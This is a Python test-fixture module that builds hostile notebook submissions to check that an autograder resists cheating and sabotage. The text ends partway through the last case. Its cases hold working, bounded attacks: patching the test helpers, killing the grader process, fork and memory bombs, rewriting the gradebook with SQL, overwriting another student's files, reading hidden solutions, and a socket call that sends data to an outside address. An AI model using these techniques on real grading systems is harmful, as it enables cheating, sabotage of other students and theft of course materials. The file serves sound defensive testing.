"""Hostile submissions (GitHub issue 5): what a cheating or malicious student can hand in.

Each case takes the released student notebook (``notebooks/<lecture>.ipynb``, every answer
cell still raising ``NotImplementedError``) and returns it with one attack in it: the code a
student would really type into an answer cell or an added cell, or an edit of the
notebook's metadata. tests/test_hostile.py grades all of them in one run, next to an honest
student who handed in the unchanged release (``cleo``) and a perfect one (``ada``), and
checks that no attack earns a point, hurts anyone else, leaks what is hidden or leaves a
trace on the machine.

A case declares its ``name`` (the student id, e.g. ``h01-edited-test``), its lecture and the
grade_ids of the test cells it attacks; its docstring says what it attacks and what a naive
nbgrader setup (``nbgrader autograde`` in a kernel with the grader's rights) would do.

What the attacks know is in ``Paths``: the repository, ``solutions/``, the course workspace
and its gradebook, the submissions folder, another student's folder, a marker folder, the
run's random token and a loopback port the test listens on. Everything an attack creates
carries ``p.tag`` (``hostile-<token>-<case>``) in its name or command line, so the test
finds and removes what got through, and never confuses it with anything else on this
(shared) machine. Destructive attacks are bounded so that even an unsandboxed run cannot
take the machine down: at most 2000 forked ``sleep 30``, 6 GB of memory (after a 50 GB
request that no machine here grants), 4 GB per file and a few seconds of writing or printing.

Attacks report what the test cannot see from outside (a connection to the internet, memory
held, processes forked, a secret read) with lines ``ESCAPED: ...`` in their own output; a
line like that in a graded notebook means the grader let something through. Files written
do not report themselves: in a sandbox, a path outside the bound folders may exist as the
sandbox's own scratch space, so the test looks for them on the machine instead.

Answers that must return something (to get past a shape check before the attack can work)
return zeros of the right shape computed with one Python step per position: such an answer
earns nothing on its own, not even the vectorization tests, so any point it gets is the
attack's.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

from nbformat import NotebookNode

from autograder.cells import is_test_cell, nbgrader_meta
from autograder.course import NOTEBOOKS as NOTEBOOKS_DIR


@dataclass(frozen=True)
class Paths:
    """Absolute paths (and facts) an attacker is assumed to know."""

    root: Path            # the repository (autograder.course.ROOT)
    solutions: Path       # the instructor's masters
    lib: Path             # the seqconv package the kernels import (installed in editable mode)
    site_packages: Path   # the virtualenv's site-packages
    course: Path          # the course workspace of the grading run
    gradebook: Path       # its gradebook.db
    submissions: Path     # the folder being graded
    victim: Path          # another student's folder in it
    markers: Path         # a folder under pytest's tmp dir: nothing graded may write there
    token: str            # random, per run
    port: int             # a loopback port the test listens on
    case: str = ""        # the case being built (set by build_case)

    @property
    def tag(self) -> str:
        """In the name or command line of everything the attack creates."""
        return f"hostile-{self.token}-{self.case}"


@dataclass(frozen=True)
class Case:
    name: str
    lecture: str
    attacks: tuple[str, ...]
    build: Callable[[NotebookNode, Paths], NotebookNode]
    metadata_only: bool = False
    # the same answers without the attack, when they can earn points honestly (else: the unchanged release)
    honest: Callable[[NotebookNode, Paths], NotebookNode] | None = None
    # handed in as ``<student>.zip``: the notebook as ``<lecture>.ipynb`` and these members, each
    # (name, block, repeats[, flag_bits]) = the block written ``repeats`` times, and flag bits OR-ed
    # into its zip headers (else: a folder with the notebook)
    archive: Callable[[Paths], list[tuple]] | None = None
    # adds folders or files to the submissions folder, next to the case's own folder (made first);
    # returns the student ids it means to hand in, which are graded too
    layout: Callable[[Paths], list[str]] | None = None

    @property
    def doc(self) -> str:
        return (self.build.__doc__ or "").strip()


CASES: list[Case] = []

PADDING = "06-padding"
CONV = "01-conv1d"
TEXT = "07-text"
EX1_06 = ("ex1-tests-values", "ex1-tests-edge-cases", "ex1-tests-vectorized")
EX2_06 = ("ex2-tests-values", "ex2-tests-edge-cases", "ex2-tests-vectorized")
ALL_06 = EX1_06 + EX2_06


def case(name: str, lecture: str, attacks: tuple[str, ...], **options) -> Callable:
    def register(build: Callable[[NotebookNode, Paths], NotebookNode]) -> Callable:
        CASES.append(Case(name, lecture, tuple(attacks), build, **options))
        return build
    return register


RAW = "raw JSON, written as it is: "


def raw_json(text: str) -> str:
    """A value that ``notebook_bytes`` writes as the JSON ``text`` itself (JSON that Python could
    not hold or copy as objects: lists nested hundreds deep)."""
    return RAW + text


def notebook_bytes(nb: NotebookNode) -> bytes:
    """The notebook as its file: nbformat's JSON, or JSON's ASCII escapes where it holds a lone
    surrogate, with Python's limit on the digits of an integer lifted (a case holds 5,000) and
    every ``raw_json`` value written as the JSON it holds."""
    import json
    import re
    import sys

    import nbformat

    limit = sys.get_int_max_str_digits()
    sys.set_int_max_str_digits(0)
    try:
        text = nbformat.writes(nb)
        try:
            text.encode()
        except UnicodeEncodeError:
            text = json.dumps(nb, indent=1, sort_keys=True)
    finally:
        sys.set_int_max_str_digits(limit)
    text = re.sub(re.escape(json.dumps(RAW)[:-1]) + r'([^"]*)"', lambda m: m.group(1), text)
    return text.encode()


def build_case(c: Case, release: NotebookNode, paths: Paths, *, honest: bool = False) -> NotebookNode:
    """The case's notebook (or its honest baseline), built from a copy of the release."""
    builder = c.honest if honest else c.build
    return builder(copy.deepcopy(release), replace(paths, case=c.name))


# -- notebook editing --------------------------------------------------------------

def cell(nb: NotebookNode, grade_id: str) -> NotebookNode:
    return next(c for c in nb.cells if nbgrader_meta(c).get("grade_id") == grade_id)


def set_answer(nb: NotebookNode, grade_id: str, code: str) -> NotebookNode:
    cell(nb, grade_id).source = code.strip("\n")
    return nb


def header(p: Paths, **names: object) -> str:
    """Constants at the top of an attack: what the attacker knows, as Python literals."""
    return "".join(f"{key} = {(str(value) if isinstance(value, Path) else value)!r}\n" for key, value in names.items())


def junk(name: str) -> str:
    """A pooling 'answer' for lecture 06 that earns nothing by itself (see the module docstring)."""
    return f'''
def {name}(H, mask):
    B, T, C = np.shape(H)
    for _ in range(B * T):   # one Python step per position: not vectorized either
        pass
    return np.zeros((B, C))
'''


def with_junk(nb: NotebookNode, before_ex1: str = "", before_ex2: str = "") -> NotebookNode:
    set_answer(nb, "ex1-answer", before_ex1 + junk("masked_mean_pool"))
    return set_answer(nb, "ex2-answer", before_ex2 + junk("masked_max_pool"))


# -- the notebook's own cells --------------------------------------------------------

@case("h01-edited-test", PADDING, ("ex1-tests-values", "ex1-tests-edge-cases", "ex2-tests-values"))
def edited_test(nb, p):
    """Test cells replaced by ``pass``. Naive nbgrader: it restores test cells from the
    gradebook (checksums), so this is the baseline of tampering; a grader that ran the
    submitted cells as they are would give full marks."""
    for grade_id in ("ex1-tests-values", "ex1-tests-edge-cases", "ex2-tests-values"):
        cell(nb, grade_id).source = "# the test is fine, trust me\npass"
    return nb


@case("h02-changed-points", PADDING, ("ex1-tests-values", "ex1-tests-edge-cases"), metadata_only=True)
def changed_points(nb, p):
    """Test cells' points raised (2 -> 200, 1 -> 100) in their nbgrader metadata. Naive
    nbgrader takes points from the gradebook, not from the submission; a grader that read
    the submitted metadata would let a student rescale the lecture."""
    cell(nb, "ex1-tests-values").metadata.nbgrader.points = 200
    cell(nb, "ex1-tests-edge-cases").metadata.nbgrader.points = 100
    return nb


@case("h03-changed-grade-id", PADDING, ("ex1-tests-values",))
def changed_grade_id(nb, p):
    """A test cell renamed (new grade_id) and emptied: the student's own test that always
    passes, while the real one is 'missing'. Naive nbgrader without add_missing_cells would
    lose the real test (its grade stays empty) and may fail on the unknown grade_id."""
    test = cell(nb, "ex1-tests-values")
    test.metadata.nbgrader.grade_id = "ex1-tests-values-fixed"
    test.source = "# Tests: masked_mean_pool (fixed)\npass"
    return nb


@case("h04-deleted-tests", PADDING, ALL_06)
def deleted_tests(nb, p):
    """Every test cell deleted. Naive nbgrader (add_missing_cells off, its default) grades
    the cells it finds: the deleted tests get no grade at all and the notebook's maximum shrinks."""
    nb.cells = [c for c in nb.cells if not is_test_cell(c)]
    return nb


@case("h05-duplicated-tests", PADDING, EX1_06)
def duplicated_tests(nb, p):
    """Each test of exercise 1 duplicated, with copies that just ``pass`` before and after
    the original. Naive nbgrader 0.9 fails with a KeyError on a duplicated grade_id (or, once
    deduplicated, may keep the first copy, the one that passes)."""
    for grade_id in EX1_06:
        original = cell(nb, grade_id)
        position = nb.cells.index(original)
        for offset, suffix in ((position + 1, "after"), (position, "before")):
            fake = copy.deepcopy(original)
            fake.source = "# Tests: (copy)\npass"
            fake["id"] = f"{grade_id}-{suffix}"
            nb.cells.insert(offset, fake)
    return nb


# -- patching what the tests use -------------------------------------------------------

@case("h06-numpy-patched", PADDING, ALL_06)
def numpy_patched(nb, p):
    """NumPy's comparisons replaced in the kernel (isclose, allclose, array_equal,
    testing.assert_*) so that everything is close to everything. Naive nbgrader runs the test
    cells in the student's kernel: every check_close passes."""
    patch = '''
import numpy as np
import numpy.testing

np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.array_equiv = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
'''
    return with_junk(nb, patch)


@case("h07-builtins-import", PADDING, ALL_06)
def builtins_import(nb, p):
    """``builtins.__import__`` replaced so that every ``from seqconv.checks import ...``
    (the first line of each test cell) hands out checks that pass. Naive nbgrader: full marks."""
    patch = '''
import builtins
import types

_real_import = builtins.__import__

def _import(name, globals=None, locals=None, fromlist=(), level=0):
    module = _real_import(name, globals, locals, fromlist, level)
    if name == "seqconv.checks" and fromlist:
        return types.SimpleNamespace(**{n: (lambda *args, **kwargs: None) for n in fromlist})
    return module

builtins.__import__ = _import
'''
    return with_junk(nb, patch)


@case("h08-builtins-isinstance", PADDING, ALL_06)
def builtins_isinstance(nb, p):
    """``builtins.isinstance`` replaced (``__builtins__`` is the same module in a notebook)
    so that a duck-typed object passes for an ndarray, and that object claims every shape and
    answers every np.isclose with True. Naive nbgrader: check_type, check_shape and
    check_close all pass."""
    code = '''
import builtins

class AnyShape(tuple):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

class Whatever:
    """Every shape, a float dtype, and close to anything NumPy compares it with."""
    shape = AnyShape()
    dtype = np.dtype(float)
    ndim = 2

    def __array_function__(self, func, types, args, kwargs):
        return np.ones(np.shape(args[1]) if len(args) > 1 else (), dtype=bool)

_real_isinstance = builtins.isinstance

def _isinstance(obj, classinfo):
    return True if type(obj) is Whatever else _real_isinstance(obj, classinfo)

builtins.isinstance = _isinstance
__builtins__.isinstance = _isinstance   # the same module here; a dict in some other runners

def masked_mean_pool(H, mask):
    for _ in range(np.size(mask)):
        pass
    return Whatever()
'''
    set_answer(nb, "ex1-answer", code)
    return set_answer(nb, "ex2-answer", "def masked_max_pool(H, mask):\n    return masked_mean_pool(H, mask)\n")


@case("h09-always-equal", PADDING, ALL_06)
def always_equal(nb, p):
    """Answers return an ndarray subclass whose ``__eq__`` is always true, whose ``shape``
    matches any shape and whose ``__array_function__`` says it is close to anything. Naive
    nbgrader: the checks (in the same process) believe it: full marks."""
    code = '''
class AnyShape(tuple):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

class Agreeable(np.ndarray):
    """An array that agrees with whatever it is compared to."""
    shape = property(lambda self: AnyShape())

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array_function__(self, func, types, args, kwargs):
        if func in (np.isclose, np.equal, np.less_equal):
            return np.ones(np.shape(np.asarray(args[1])), dtype=bool)
        if func in (np.allclose, np.array_equal, np.array_equiv, np.all):
            return True
        return super().__array_function__(func, types, args, kwargs)

def masked_mean_pool(H, mask):
    for _ in range(np.size(mask)):
        pass
    return np.zeros(1).view(Agreeable)

def masked_max_pool(H, mask):
    return masked_mean_pool(H, mask)
'''
    set_answer(nb, "ex1-answer", code)
    return set_answer(nb, "ex2-answer", "# masked_max_pool is defined above")


@case("h10-reads-the-test", PADDING, ALL_06)
def reads_the_test(nb, p):
    """The answer reads the test that calls it: it finds the calling ``check_close(...)``
    in the caller's source (IPython keeps every cell in linecache, hidden tests included),
    evaluates the expected value there and returns it. Naive nbgrader: every value test
    passes, visible and hidden."""
    code = '''
import ast
import linecache
import sys

def _what_the_test_expects(fallback_shape):
    """The expected value of the check that is calling us, evaluated in the caller's frame."""
    frame = sys._getframe(2)
    while frame is not None:
        name = frame.f_code.co_filename
        if "/ipykernel_" not in name and not name.startswith("<ipython-input"):
            frame = frame.f_back   # not a notebook cell
            continue
        source = "".join(linecache.getlines(frame.f_code.co_filename))
        try:
            tree = ast.parse(source)
        except SyntaxError:
            tree = None
        for node in ast.walk(tree) if tree else ():
            if (isinstance(node, ast.Call) and getattr(node.func, "id", "") in ("check_close", "check_shape")
                    and len(node.args) >= 2 and node.lineno <= frame.f_lineno <= node.end_lineno):
                value = eval(compile(ast.Expression(node.args[1]), "<test>", "eval"), frame.f_globals, frame.f_locals)
                return np.zeros(value) if node.func.id == "check_shape" else np.asarray(value)
        frame = frame.f_back
    return np.zeros(fallback_shape)

def masked_mean_pool(H, mask):
    for _ in range(np.size(mask)):
        pass
    return _what_the_test_expects((np.shape(H)[0], np.shape(H)[2]))

def masked_max_pool(H, mask):
    for _ in range(np.size(mask)):
        pass
    return _what_the_test_expects((np.shape(H)[0], np.shape(H)[2]))
'''
    set_answer(nb, "ex1-answer", code)
    return set_answer(nb, "ex2-answer", "# masked_max_pool is defined above")


@case("h11-lying-equality", TEXT, ("ex1-tests-word", "ex1-tests-char", "ex2-tests"))
def lying_equality(nb, p):
    """Answers that return objects equal to everything: a ``Yes`` whose ``__eq__``/``__ne__``
    always agree (check_equal compares with ``!=``), and an int subclass whose differences
    are such a ``Yes``. Naive nbgrader: check_equal and check_type pass."""
    code = '''
class Yes:
    """Equal to anything."""
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __repr__(self):
        return "(11, 9)"

class Count(int):
    """An int whose differences agree with anything."""
    def __sub__(self, other):
        return Yes()

    __rsub__ = __sub__

def token_stats(texts, tokenizer):
    return Yes()
'''
    set_answer(nb, "ex1-answer", code)
    return set_answer(nb, "ex2-answer", '''
def textcnn_n_params(vocab_size, emb_dim, kernel_size, channels, n_classes):
    return Count(0)
''')


# -- hiding failures -----------------------------------------------------------------

@case("h12-no-traceback", PADDING, ALL_06)
def no_traceback(nb, p):
    """Tracebacks switched off: ``sys.excepthook`` and IPython's ``showtraceback`` replaced by
    no-ops, so a failing test cell produces no error output. Naive nbgrader decides pass or
    fail from the error outputs: every test 'passes' although the answers still raise."""
    hook = '''
import sys
from IPython import get_ipython

sys.excepthook = lambda *args: None
get_ipython().showtraceback = lambda *args, **kwargs: None
'''
    answer = cell(nb, "ex1-answer")
    answer.source = hook + "\n" + answer.source
    return nb


@case("h13-custom-exc", PADDING, ALL_06)
def custom_exc(nb, p):
    """Every exception swallowed by IPython's custom exception handler
    (``set_custom_exc((BaseException,), ...)``, and its error message skipped). Naive
    nbgrader: no test cell shows an error, so all pass."""
    hook = '''
from IPython import get_ipython

shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
shell.CustomTB = lambda *args, **kwargs: None   # set_custom_exc would still send an empty error
'''
    answer = cell(nb, "ex1-answer")
    answer.source = hook + "\n" + answer.source
    return nb


@case("h14-input-transformer", PADDING, ALL_06)
def input_transformer(nb, p):
    """An IPython input transformer that rewrites every later cell to ``pass``: the test
    cells never run. Naive nbgrader: no error output anywhere, full marks."""
    hook = '''
from IPython import get_ipython

get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
'''
    answer = cell(nb, "ex1-answer")
    answer.source = answer.source + "\n\n" + hook
    return nb


@case("h15-checks-patched", PADDING, ALL_06)
def checks_patched(nb, p):
    """``seqconv.checks`` patched in the kernel: every check a no-op, and the line counter
    behind check_vectorized returning 1. Naive nbgrader (test cells import the checks from
    the patched module): full marks, loops included."""
    patch = '''
import seqconv.checks

def _passes(*args, **kwargs):
    return None

for _name in ("check_close", "check_shape", "check_equal", "check_type", "check_vectorized"):
    setattr(seqconv.checks, _name, _passes)
seqconv.checks.count_python_lines = lambda fn, *args: 1
'''
    return with_junk(nb, patch)


def _library_answers(nb: NotebookNode, patch: str) -> NotebookNode:
    set_answer(nb, "ex1-answer", patch + '''
def conv1d_vectorized(X, K):
    return seqconv.conv1d(X, K)
''')
    return set_answer(nb, "ex2-answer", '''
def conv1d_same(X, K):
    return seqconv.conv1d(X, K, padding="same")
''')


def _library_honest(nb, p):
    """The same answers, calling the library, without the patch: the tests that switch the
    library off must fail them."""
    return _library_answers(nb, "import seqconv\n")


@case("h16-switch-offs-patched", CONV, ("ex1-tests-values", "ex2-tests-odd", "ex2-tests-even"), honest=_library_honest)
def switch_offs_patched(nb, p):
    """The exercises ask for an own implementation, and the tests switch the library off
    (``seqconv.checks.disabled``, ``padding_refused``) while they call it. This answer calls
    ``seqconv.conv1d`` and first replaces those switches (and ``enter_remote``, which applies
    them in the kernel) by no-ops. Naive nbgrader: the hidden 'library switched off' tests
    pass. Compared with the same answers without the patch."""
    return _library_answers(nb, '''
import contextlib
import seqconv
import seqconv.checks

seqconv.checks.disabled = lambda *args, **kwargs: contextlib.nullcontext()
seqconv.checks.padding_refused = lambda *args, **kwargs: contextlib.nullcontext()
seqconv.checks.enter_remote = lambda *args, **kwargs: contextlib.nullcontext()
''')


# -- stopping the kernel or the grader ------------------------------------------------------

@case("h17-os-exit", PADDING, ALL_06)
def os_exit(nb, p):
    """``os._exit(0)`` when tested: the kernel ends 'successfully' in the middle of a test.
    Naive nbgrader: the kernel dies, nbclient raises DeadKernelError and the notebook is not
    graded at all (or graded from what ran)."""
    return _replace_bodies(nb, "os._exit(0)")


def _replace_bodies(nb: NotebookNode, statement: str) -> NotebookNode:
    for grade_id, name in (("ex1-answer", "masked_mean_pool"), ("ex2-answer", "masked_max_pool")):
        set_answer(nb, grade_id, f"import os\nimport signal\nimport sys\n\ndef {name}(H, mask):\n    {statement}\n")
    return nb


@case("h18-sys-exit", PADDING, ALL_06)
def sys_exit(nb, p):
    """``sys.exit(0)`` when tested, and ``raise SystemExit`` in the answer cell itself.
    Naive nbgrader: IPython turns SystemExit into an error output, so this scores 0; a grader
    that treated SystemExit(0) as success would not."""
    _replace_bodies(nb, "sys.exit(0)")
    answer = cell(nb, "ex2-answer")
    answer.source += "\n\nraise SystemExit(0)"
    return nb


@case("h19-kill-kernel", PADDING, ALL_06)
def kill_kernel(nb, p):
    """The kernel kills itself with SIGKILL when tested. Naive nbgrader: DeadKernelError;
    the notebook fails to grade."""
    return _replace_bodies(nb, "os.kill(os.getpid(), signal.SIGKILL)")


@case("h20-kill-parent", PADDING, ALL_06)
def kill_parent(nb, p):
    """The answer cell kills the kernel's parent process with SIGKILL. Naive nbgrader (or this
    grader unsandboxed): the parent is the grading worker, so the worker pool breaks and
    other students' notebooks get no grade."""
    answer = cell(nb, "ex1-answer")
    answer.source = "import os\nimport signal\n\nos.kill(os.getppid(), signal.SIGKILL)\n\n" + answer.source
    return nb


@case("h21-kill-grader", PADDING, ALL_06)
def kill_grader(nb, p):
    """The answer cell walks up its ancestors (``/proc/<pid>/stat``) and SIGKILLs the grader
    (``python -m autograder grade ...``). Naive nbgrader: the whole grading run dies. (The
    match also requires this run's token, so this test never kills anything else.)"""
    answer = cell(nb, "ex1-answer")
    answer.source = header(p, TOKEN=p.token) + '''
import os
import signal

pid = os.getppid()
while pid > 1:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            cmdline = f.read().replace(b"\\0", b" ").decode(errors="replace")
        with open(f"/proc/{pid}/stat") as f:
            parent = int(f.read().rsplit(")", 1)[1].split()[1])
    except OSError:
        break
    if "autograder" in cmdline and TOKEN in cmdline:
        print(f"ESCAPED: killing the grader, pid {pid}")
        os.kill(pid, signal.SIGKILL)
    pid = parent

''' + answer.source
    return nb


# -- exhausting resources -------------------------------------------------------------------

@case("h22-fork-bomb", PADDING, ALL_06)
def fork_bomb(nb, p):
    """A fork bomb, bounded for this test: up to 2000 children that each become ``sleep 30``
    (a real one is ``while True: os.fork()``). Naive nbgrader: no process limit, the
    children outlive the kernel and fill the machine's process table."""
    answer = cell(nb, "ex1-answer")
    answer.source = header(p, TAG=p.tag) + '''
import os
import shutil

SLEEP = shutil.which("sleep")
children = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            try:
                os.execv(SLEEP, [TAG, "30"])
            finally:
                os._exit(1)
        children += 1
except OSError as exc:
    print(f"fork failed after {children} children: {exc}")
if children == 2000:
    print(f"ESCAPED: {children} processes forked")

''' + answer.source
    return nb


@case("h23-memory-bomb", PADDING, ALL_06)
def memory_bomb(nb, p):
    """A memory bomb: 50 GB at once, then 512 MB blocks written to (up to 6 GB). Naive
    nbgrader: no memory limit, the kernel (or the OOM killer's choice) takes the machine's
    memory from every other process."""
    answer = cell(nb, "ex1-answer")
    answer.source = '''
import numpy as np

hoard = []
try:
    hoard.append(np.ones(50 * 2**30 // 8))          # 50 GB
except MemoryError:
    for _ in range(12):
        hoard.append(np.ones(2**26))                  # 512 MB each, really used
print(f"ESCAPED: holding {sum(a.nbytes for a in hoard) / 2**30:.1f} GB")

''' + answer.source
    return nb


@case("h24-infinite-loop", PADDING, ALL_06)
def infinite_loop(nb, p):
    """An infinite loop that ignores the interrupt (SIGINT set to SIG_IGN). Naive nbgrader:
    the cell timeout's interrupt does nothing; without a second stage the grading hangs."""
    answer = cell(nb, "ex1-answer")
    answer.source = '''
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
'''
    return nb


# -- writing where it must not --------------------------------------------------------------

@case("h25-gradebook-update", PADDING, ALL_06)
def gradebook_update(nb, p):
    """The gradebook opened with sqlite3: every grade set to full marks (manual_score wins over
    auto_score in nbgrader) and a trigger that does the same to every grade inserted later,
    this student's included. Naive nbgrader: the kernel can write the gradebook: full marks
    for everyone."""
    answer = cell(nb, "ex1-answer")
    answer.source = header(p, GRADEBOOK=str(p.gradebook), TRIGGER=p.tag.replace("-", "_")) + '''
import sqlite3

FULL_MARKS = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = {}.cell_id)"
try:
    db = sqlite3.connect(f"file:{GRADEBOOK}?mode=rw", uri=True, timeout=10)
    with db:
        db.execute(f"UPDATE grade SET manual_score = {FULL_MARKS.format('grade')}")
        db.execute(f"""CREATE TRIGGER IF NOT EXISTS "{TRIGGER}" AFTER INSERT ON grade BEGIN
                       UPDATE grade SET manual_score = {FULL_MARKS.format('NEW')} WHERE id = NEW.id; END""")
    db.close()
    print("ESCAPED: gradebook updated")
except Exception as exc:
    print(f"gradebook: {type(exc).__name__}: {exc}")

''' + answer.source
    return nb


@case("h26-gradebook-garbage", PADDING, ALL_06)
def gradebook_garbage(nb, p):
    """Garbage written over the gradebook file's first bytes (SQLite's header). Naive
    nbgrader: the gradebook is destroyed, for this run and every later one."""
    answer = cell(nb, "ex1-answer")
    answer.source = header(p, GRADEBOOK=str(p.gradebook)) + '''
try:
    with open(GRADEBOOK, "r+b") as f:
        f.write(b"all your grades are belong to us " * 64)
    print("ESCAPED: gradebook overwritten")
except OSError as exc:
    print(f"gradebook: {exc}")

''' + answer.source
    return nb


@case("h27-other-student", PADDING, ALL_06)
def other_student(nb, p):
    """Another student's submission overwritten (their notebooks replaced by '{}'), a file
    dropped in their folder and in the submissions folder. Naive nbgrader: the kernel
    can write the exchange/submitted folders: sabotage for this run or the next."""
    answer = cell(nb, "ex1-answer")
    answer.source = header(p, VICTIM=str(p.victim), SUBMISSIONS=str(p.submissions), TAG=p.tag) + '''
from pathlib import Path

for target in [*Path(VICTIM).glob("*.ipynb"), Path(VICTIM) / f"{TAG}.txt", Path(SUBMISSIONS) / f"{TAG}.txt"]:
    try:
        target.write_text("{}")
        print(f"wrote {target}")
    except OSError as exc:
        print(f"{target}: {exc}")

''' + answer.source
    return nb


@case("h28-write-repo", PADDING, ALL_06)
def write_repo(nb, p):
    """Files created in the repository (its root, solutions/, the seqconv package every later
    kernel imports), a .pth in the virtualenv (run by every later Python) and a marker
    folder outside the kernel's working directory. Harmless content and tagged names here;
    a real attacker would edit checks.py or the masters. Naive nbgrader: all of it works."""
    answer = cell(nb, "ex1-answer")
    answer.source = header(p, ROOT=str(p.root), SOLUTIONS=str(p.solutions), LIB=str(p.lib),
                           SITE_PACKAGES=str(p.site_packages), MARKERS=str(p.markers), TAG=p.tag) + '''
from pathlib import Path

targets = [Path(ROOT) / f".{TAG}", Path(SOLUTIONS) / f".{TAG}", Path(LIB) / f"{TAG.replace('-', '_')}.py",
           Path(SITE_PACKAGES) / f"{TAG}.pth", Path(MARKERS) / TAG]
for target in targets:
    try:
        target.write_text("# written by a graded notebook\\n")
        print(f"wrote {target}")
    except OSError as exc:
        print(f"{target}: {exc}")

''' + answer.source
    return nb


# -- reading what it must not -----------------------------------------------------------

_PRINT_SECRETS = '''
import json
from pathlib import Path

from IPython.display import display

def show_secrets(path):
    """Print the solutions and hidden tests of a master notebook, one output per cell."""
    try:
        cells = json.loads(Path(path).read_text())["cells"]
    except (OSError, ValueError) as exc:
        print(f"{path}: {exc}")
        return
    print(f"ESCAPED: read {path}")
    for c in cells:
        text = "".join(c["source"])
        if "BEGIN HIDDEN TESTS" in text or "BEGIN SOLUTION" in text or c.get("metadata", {}).get("nbgrader", {}).get("solution"):
            display({"text/plain": text}, raw=True)
'''


@case("h29-read-solutions", PADDING, ALL_06)
def read_solutions(nb, p):
    """solutions/*.ipynb read and their solution and hidden test cells printed (this lecture
    first). Naive nbgrader: the kernel has the instructor's rights: the feedback shows the
    answers and hidden tests, for this student and anyone they share it with."""
    answer = cell(nb, "ex1-answer")
    answer.source = header(p, SOLUTIONS=str(p.solutions), LECTURE=PADDING) + _PRINT_SECRETS + '''
masters = sorted(Path(SOLUTIONS).glob("*.ipynb"), key=lambda path: path.stem != LECTURE)
if not masters:
    print(f"{SOLUTIONS}: nothing there")
for master in masters:
    show_secrets(master)

''' + answer.source
    return nb


@case("h30-read-course", PADDING, ALL_06)
def read_course(nb, p):
    """The course workspace read: the master copies in source/ printed like h29, and the
    gradebook opened read-only and dumped (grades of other students, stored test sources).
    Naive nbgrader: all readable."""
    answer = cell(nb, "ex1-answer")
    answer.source = header(p, COURSE=str(p.course), GRADEBOOK=str(p.gradebook), LECTURE=PADDING) + _PRINT_SECRETS + '''
import sqlite3

masters = sorted(Path(COURSE, "source").glob("*/*.ipynb"), key=lambda path: path.stem != LECTURE)
if not masters:
    print(f"{COURSE}/source: nothing there")
for master in masters:
    show_secrets(master)
try:
    db = sqlite3.connect(f"file:{GRADEBOOK}?mode=ro", uri=True)
    rows = db.execute("SELECT * FROM grade").fetchall() + db.execute("SELECT name, source FROM source_cell").fetchall()
    print(f"ESCAPED: read {len(rows)} rows of the gradebook")
    for row in rows:
        display({"text/plain": repr(row)}, raw=True)
except sqlite3.Error as exc:
    print(f"gradebook: {exc}")

''' + answer.source
    return nb


@case("h31-network", PADDING, ALL_06)
def network(nb, p):
    """Network connections: to 1.1.1.1:53 (the internet) and to a loopback port the test
    listens on (services of the grading machine), sending this run's tag. Naive nbgrader:
    both work: answers can be fetched and data sent out."""
    answer = cell(nb, "ex1-answer")
    answer.source = header(p, PORT=p.port, TAG=p.tag) + '''
import socket

for host, port in (("1.1.1.1", 53), ("127.0.0.1", PORT)):
    try:
        with socket.create_connection((host, port), timeout=3) as s:
            s.sendall(f"{TAG} was here\\n".encode())
        print(f"ESCAPED: connected to {host}:{port}")
    except OSError as exc:
        print(f"{host}:{port}: {exc}")

''' + answer.source
    return nb


@case("h32-output-flood", PADDING, ALL_06)
def output_flood(nb, p):
    """About 2 GB printed by an answer cell (1 MB lines), for at most 8 s. Naive nbgrader:
    the output lands in the notebook and in memory: the autograded notebook and the feedback
    become gigabytes, or the grader runs out of memory."""
    answer = cell(nb, "ex1-answer")
    answer.source = '''
import sys
import time

line = "spam " * 200_000 + "\\n"
start = time.monotonic()
for _ in range(2000):
    sys.stdout.write(line)
    if time.monotonic() - start > 8:
        break

''' + answer.source
    return nb


@case("h33-huge-files", PADDING, ALL_06)
def huge_files(nb, p):
    """Disk filled: up to 1.5 GB each in the working directory, in /tmp and in a folder of its
    own (``/var/tmp/<tag>``), as 128 MB files (under any per-file limit), 3 s of writing per
    place. Naive nbgrader: no quota: the grading machine's disk (or, in a sandbox whose root
    is a tmpfs, its memory) fills up, and what is outside the working directory stays."""
    answer = cell(nb, "ex1-answer")
    answer.source = header(p, TAG=p.tag) + '''
import os
import time

chunk = b"\\0" * 2**20
for folder in (".", "/tmp", f"/var/tmp/{TAG}"):
    written, start = 0, time.monotonic()
    try:
        os.makedirs(folder, exist_ok=True)
        while written < 1536 and time.monotonic() - start < 3:
            with open(os.path.join(folder, f"{TAG}-{written // 128}.bin"), "wb") as f:
                for _ in range(128):
                    f.write(chunk)
                    written += 1
    except OSError as exc:
        print(f"{folder}: {exc}")
    print(f"{folder}: {written} MB")
    if written > 1024:
        print(f"ESCAPED: {written} MB written to {folder}")

''' + answer.source
    return nb


@case("h34-background-process", PADDING, ALL_06)
def background_process(nb, p):
    """A background process that outlives the kernel: ``sleep 600`` in a session of its own
    (so killing the kernel's process group misses it). Naive nbgrader: it keeps running after
    grading, e.g. to tamper with the next student's files."""
    answer = cell(nb, "ex1-answer")
    answer.source = header(p, TAG=p.tag) + '''
import shutil
import subprocess

sleeper = subprocess.Popen([TAG, "600"], executable=shutil.which("sleep"), start_new_session=True,
                           stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print(f"started {sleeper.pid}")

''' + answer.source
    return nb


@case("h35-history-leak", PADDING, ALL_06)
def history_leak(nb, p):
    """The test code this kernel ran is in IPython's history (``In``), hidden parts included:
    the second answer cell prints it. The first answer hard-codes the visible tests' values
